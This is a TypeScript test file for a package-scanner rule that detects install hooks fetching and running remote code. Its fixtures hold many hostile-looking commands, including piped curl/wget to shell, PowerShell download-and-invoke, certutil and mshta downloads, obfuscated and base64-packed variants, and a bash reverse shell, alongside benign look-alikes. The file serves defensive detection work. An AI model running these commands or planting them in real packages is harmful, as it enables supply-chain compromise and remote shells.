import { remoteCodeAtInstall } from "../../../src/scanner/rules/ins-01-remote-code.ts";
import { describeRule, hook } from "../../support/rule-tables.ts";

const encoded = Buffer.from("curl -fsSL https://files.example.test/a | sh").toString("base64");
const utf16 = Buffer.from("iwr https://files.example.test/a | iex", "utf16le").toString("base64");

describeRule(remoteCodeAtInstall, {
  flags: {
    "curl into cmd": hook("curl -fsSL https://files.example.test/a | cmd"),
    "curl into sh": hook("curl -fsSL https://files.example.test/a | sh"),
    "wget into bash through sudo": hook(
      "wget -qO- https://files.example.test/a | sudo -E bash -s -- -y",
    ),
    "a path and an odd case": hook("/usr/bin/CURL.exe -s https://files.example.test/a | /bin/bash"),
    "filters between the two": hook(
      "curl -s https://files.example.test/a | tr -d '\\r' | tee /tmp/x | sh",
    ),
    "a substitution": hook('sh -c "$(curl -fsSL https://files.example.test/a)"'),
    "backticks under eval": hook("eval `wget -qO- https://files.example.test/a`"),
    "process substitution": hook("bash <(curl -s https://files.example.test/a)"),
    "a here-string": hook('node - <<< "$(curl -s https://files.example.test/a)"'),
    "a temporary file": hook("curl -so /tmp/.x https://files.example.test/a && sh /tmp/.x"),
    "a temporary file with a made-up name": hook(
      'T=$(mktemp); curl -s https://files.example.test/a -o "$T" && chmod +x "$T" && bash "$T"',
    ),
    "a temporary file in a folder that only the run knows": hook(
      'D=/tmp/.c-$(date +%s); mkdir -p "$D"; curl -so "$D/run" https://files.example.test/a; chmod +x "$D/run"; "$D/run"',
    ),
    "a temporary file that is named after the process, read back": hook(
      'W=/tmp/p.$$; wget -qO "$W/kit" https://files.example.test/a; eval "$(cat "$W/kit")"',
    ),
    "a list of words": hook("bash x.sh", {
      "x.sh": `get=(curl -fsSL https://files.example.test/a)\n"\${get[@]}" | sh\n`,
    }),
    "functions with what they are handed": hook("sh x.sh", {
      "x.sh":
        'run() { "$@"; }\nfetch() { curl -fsSL "$1"; }\nfetch https://files.example.test/a | run sh\n',
    }),
    "a function by its keyword": hook("bash x.sh", {
      "x.sh": "function grab {\n  curl -s $1\n}\ngrab https://files.example.test/a | bash\n",
    }),
    "a trap": hook("trap 'curl -s https://files.example.test/a | sh' EXIT; echo ok"),
    "a Makefile in a folder": hook("make -C build", {
      "build/Makefile": "all:\n\tcurl -fsSL https://files.example.test/a | sh\n",
    }),
    "a script of Python that evaluates": hook("python3 s.py", {
      "s.py": "import requests\nexec(requests.get('https://files.example.test/a').text)\n",
    }),
    "a script of Python, by a name": hook("python3 s.py", {
      "s.py":
        "import urllib.request\ncode = urllib.request.urlopen('https://files.example.test/a').read()\nprint(1)\nexec(code)\n",
    }),
    "a script of Ruby that asks a shell": hook("ruby s.rb", {
      "s.rb": "system('curl -s https://files.example.test/a | sh')\n",
    }),
    "a list of words in Python": hook("python3 s.py", {
      "s.py":
        "import subprocess\nsubprocess.run(['sh', '-c', 'curl -s https://files.example.test/a | sh'])\n",
    }),
    "a batch file by its name": hook("s.bat", {
      "s.bat":
        '@echo off\r\ncurl -so %TEMP%\\k.exe https://files.example.test/k\r\nstart "" /b %TEMP%\\k.exe\r\n',
    }),
    "a redirected file made executable": hook(
      "wget -qO - https://files.example.test/a > ./b; chmod +x ./b; ./b",
    ),
    "the name that the address ends with": hook(
      "curl -sO https://files.example.test/run.js && node run.js",
    ),
    "a moved file": hook(
      "curl -so a.txt https://files.example.test/a && mv a.txt b.js && node b.js",
    ),
    "variables that hold the command": hook(
      'C=curl; U=https://files.example.test/a; X=$($C -s $U); eval "$X"',
    ),
    "an alias": hook("alias get='curl -s'; get https://files.example.test/a | sh"),
    "quotes inside the words": hook("c''ur\\l -s https://files.example.test/a | s\"\"h"),
    "field separators as blanks": hook(`curl\${IFS}-s\${IFS}https://files.example.test/a|sh`),
    "braces as blanks": hook("{curl,-s,https://files.example.test/a}|sh"),
    "escaped letters": hook("$'\\x63url' -s https://files.example.test/a | sh"),
    "a function": hook(
      "f() { curl -s https://files.example.test/a; }; f | sh; { curl -s https://files.example.test/a; } | sh",
    ),
    "a condition": hook("if true; then curl -s https://files.example.test/a | sh; fi"),
    "carets for cmd": hook("c^url -s https://files.example.test/a | po^wershell -"),
    "a shell in a shell": hook("sh -c 'bash -c \"curl -s https://files.example.test/a | sh\"'"),
    xargs: hook("curl -s https://files.example.test/a | xargs -I{} sh -c {}"),
    "DNS as the carrier": hook("dig +short txt a.example.test | tr -d '\"' | base64 -d | sh"),
    "a shell on a socket": hook("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    "an address for an interpreter": hook("deno run -A https://files.example.test/a.ts"),
    "a repository that is cloned and started": hook(
      "git clone https://git.example.test/a/b x && sh x/run.sh",
    ),
    "PowerShell's download and invoke": hook(
      "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://files.example.test/a')\"",
    ),
    "PowerShell with joined words": hook(
      "pwsh -Command \"& ('i'+'ex') (i`wr https://files.example.test/a)\"",
    ),
    "an encoded PowerShell command": hook(`powershell -EncodedCommand ${utf16}`),
    "a certificate tool": hook("certutil -urlcache -split -f https://files.example.test/a a.exe"),
    "a script host": hook("mshta https://files.example.test/a.hta"),
    "another script of the package": {
      manifest: {
        scripts: {
          preinstall: "npm run -s prep",
          prep: "npm-run-all fetch",
          fetch: "curl -s https://files.example.test/a | sh",
        },
      },
    },
    "a line hidden in the package's configuration": {
      manifest: {
        config: { setup: "curl -s https://files.example.test/a | sh" },
        scripts: { install: "eval $npm_package_config_setup" },
      },
    },
    "a shell script of the package": hook("sh ./scripts/setup.sh", {
      "scripts/setup.sh": "#!/bin/sh\nset -e\ncurl -fsSL https://files.example.test/a \\\n  | sh\n",
    }),
    "a script that a script starts": hook("./a.sh", {
      "a.sh": "#!/bin/sh\n. ./b.sh\n",
      "b.sh": "wget -qO- https://files.example.test/a | sh\n",
    }),
    "a here-document": hook("sh ./a.sh", {
      "a.sh": "bash <<EOF\ncurl -s https://files.example.test/a | sh\nEOF\n",
    }),
    "a Makefile": hook("make", {
      Makefile: "all:\n\t@curl -s https://files.example.test/a | sh\n",
    }),
    "JavaScript that runs the line": hook("node setup.js", {
      "setup.js":
        "const { execSync } = require('child_process');\nexecSync('curl -s https://files.example.test/a | sh', { stdio: 'ignore' });",
    }),
    "a renamed function and a constant": hook("node setup.js", {
      "setup.js":
        "const { exec: e } = require('node:child_process');\nconst line = 'curl -s ' + 'https://files.example.test/a' + ' | sh';\ne(line);",
    }),
    "an argument list": hook("node setup", {
      "setup.js":
        "import cp from 'child_process';\ncp.spawn('bash', ['-c', 'wget -qO- https://files.example.test/a | bash']);",
    }),
    "a joined list behind a wrapper": hook("node setup.js", {
      "setup.js":
        "const cp = require('child_process');\nfunction run(c) { return cp.execSync(c); }\nrun(['curl', '-s', 'https://files.example.test/a', '|', 'sh'].join(' '));",
    }),
    "a packed line": hook("node setup.js", {
      "setup.js": `const cp = require('child_process');\ncp.exec(Buffer.from('${encoded}', 'base64').toString());`,
    }),
    "a module that the target loads": hook("node setup.js", {
      "setup.js": "require('./lib/a')",
      "lib/a.js": `require('child_process').execSync(\`curl -s \${u} | sh\`)`,
    }),
    "an inline payload": hook(
      "node -e \"require('child_process').execSync('curl -s https://files.example.test/a | sh')\"",
    ),
    "inline Python": hook(
      "python3 -c \"import urllib.request as u; exec(u.urlopen('https://files.example.test/a').read())\"",
    ),
    "a bundled dependency": {
      manifest: { bundleDependencies: ["inner"] },
      files: {
        "node_modules/inner/package.json": JSON.stringify({
          name: "inner",
          scripts: { install: "curl -s https://files.example.test/a | sh" },
        }),
      },
    },
  },
  passes: {
    "a script of Python that reads a version": hook("python3 s.py", {
      "s.py":
        "import subprocess, urllib.request\nlatest = urllib.request.urlopen('https://files.example.test/v').read()\nsubprocess.run(['git', '--version'])\nprint(latest)\n",
    }),
    "functions that only say something": hook("sh x.sh", {
      "x.sh": 'say() { echo "$@"; }\nsay run curl https://files.example.test/a | sh -n\n',
    }),
    "two folders that nobody knows": hook("sh x.sh", {
      "x.sh": 'curl -so "$1/a.txt" https://files.example.test/a\nsh "$2/b.sh"\n',
    }),
    "two temporary files": hook(
      'A=$(mktemp); B=$(mktemp); curl -s https://files.example.test/a -o "$A"; echo "exit 0" > "$B"; sh "$B"',
    ),
    "a build script with the same line": {
      manifest: { scripts: { build: "curl -s https://files.example.test/a | sh" } },
    },
    "a banner that quotes the line": hook(
      'echo "To set up, run: curl -s https://files.example.test/a | sh"',
    ),
    "a hint that JavaScript prints": hook("node a.js", {
      "a.js":
        "const cp = require('child_process');\nconsole.log('curl -fsSL https://files.example.test/a | bash');\ncp.execSync('node --version');",
    }),
    "an archive that is unpacked": hook(
      "curl -sL https://files.example.test/a.tgz | tar xz -C vendor",
    ),
    "a download that is kept": hook(
      "curl -so bin/tool https://files.example.test/tool && chmod +x bin/tool",
    ),
    "an answer that is read as data": hook(
      'curl -s https://files.example.test/v | node -e "process.stdin.pipe(process.stdout)"',
    ),
    "a version looked up for an own script": hook(
      "node install.js $(curl -s https://files.example.test/v)",
      { "install.js": "console.log(1)" },
    ),
    "a comment": hook("node a.js # curl -s https://files.example.test/a | sh", {
      "a.js": "// execSync('curl x | sh')\n/* exec('curl x | sh') */",
    }),
    "a native build": hook("prebuild-install || node-gyp rebuild"),
    "a regular expression's exec": hook("node a.js", {
      "a.js": "/curl (.*) | sh/.exec('curl x'); // \" `",
    }),
  },
});
